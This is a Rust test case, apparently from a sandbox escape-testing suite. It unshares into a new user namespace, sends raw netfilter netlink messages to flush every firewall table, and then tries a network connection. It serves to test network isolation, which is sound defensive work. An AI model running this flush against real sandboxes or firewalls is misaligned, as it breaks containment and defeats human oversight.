//! Does root of a new user namespace flush the rules of the old one?

use crate::attempt::{Attempt, Company, Severity};
use crate::field::Field;
use crate::sys::{self, Arg};
use crate::token::Token;
use crate::tried::{NotApplicable, Tried};
use crate::wire;

pub(super) const ATTEMPT: Attempt = Attempt {
    id: "rules-flushed-by-new-root",
    class: "network",
    severity: Severity::Critical,
    surface: "decision:deny/literal-address",
    company: Company::Alone,
    about: "Makes a user namespace, deletes all tables from within it, and connects.",
    make,
    ..Attempt::USUAL
};

fn make(_: &Field, token: &Token, tried: &mut Tried) -> Result<(), NotApplicable> {
    tried.call("unshare", sys::call(libc::SYS_unshare, &mut [Arg::Number(libc::CLONE_NEWUSER as u64)]));
    if let Some(socket) = tried.call("netlink", sys::socket(libc::AF_NETLINK, libc::SOCK_RAW, libc::NETLINK_NETFILTER))
    {
        let message = |kind: u16, resource: u16| {
            let head = [&20_u32.to_ne_bytes()[..], &kind.to_ne_bytes(), &1_u16.to_ne_bytes(), &[0; 10]].concat();
            [head, resource.to_be_bytes().to_vec()].concat()
        };
        let kernel = [&(libc::AF_NETLINK as u16).to_ne_bytes()[..], &[0; 10]].concat();
        let flush = [message(16, 10), message(10 << 8 | 2, 0), message(17, 10)].concat();
        tried.call("flush", sys::send_to(&socket, &flush, &kernel));
    }
    tried.call("connect and send", wire::deliver(token.tcp()?, token.bytes()));
    Ok(())
}
